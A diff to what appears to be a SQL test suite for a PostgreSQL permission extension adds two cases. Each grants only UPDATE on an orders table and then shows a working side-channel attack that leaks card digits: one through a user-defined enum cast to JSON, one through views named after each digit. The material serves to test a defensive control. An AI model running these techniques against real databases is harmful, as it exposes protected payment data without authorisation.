@@ -97,6 +97,33 @@ SELECT warrant.grant('clerk', '{UPDATE}', on_table => 'orders');
 UPDATE orders SET status = set_config('my.card', card, false);
 SELECT current_setting('my.card');
 
+--- update_casts_to_json: a cast to JSON that an enum's owner has made, which no node of the statement names
+-- needs SELECT on orders
+-- shows ^digit 4$
+-- gate
+SELECT warrant.protect('orders');
+SELECT warrant.grant('clerk', '{UPDATE}', on_table => 'orders');
+-- attack
+CREATE TYPE desk.digit AS ENUM ('0', '1', '2', '3', '4', '5', '6', '7', '8', '9');
+CREATE TABLE desk.told (digit text);
+CREATE FUNCTION desk.tell(desk.digit) RETURNS json LANGUAGE sql AS $$ INSERT INTO desk.told VALUES ($1) RETURNING '1'::json $$;
+CREATE CAST (desk.digit AS json) WITH FUNCTION desk.tell(desk.digit);
+UPDATE orders SET status = to_json(left(card, 1)::desk.digit);
+SELECT DISTINCT 'digit ' || digit FROM desk.told;
+
+--- update_chooses_view: a function of the server's own reads the view that the value names
+-- needs SELECT on orders
+-- shows ^digit 4$
+-- gate
+SELECT warrant.protect('orders');
+SELECT warrant.grant('clerk', '{UPDATE}', on_table => 'orders');
+-- attack
+CREATE TABLE desk.told (digit int);
+CREATE FUNCTION desk.tell(int) RETURNS int LANGUAGE sql AS 'INSERT INTO desk.told VALUES ($1) RETURNING 1';
+SELECT format('CREATE VIEW desk.view_%s AS SELECT desk.tell(%1$s)', g) FROM generate_series(0, 9) AS g \gexec
+UPDATE orders SET status = 'read' WHERE table_to_xml(('desk.view_' || left(card, 1))::regclass, true, true, '') IS NOT NULL;
+SELECT DISTINCT 'digit ' || digit FROM desk.told;
+
 --- update_reads_again: the target read a second time
 -- needs SELECT on orders
 -- gate
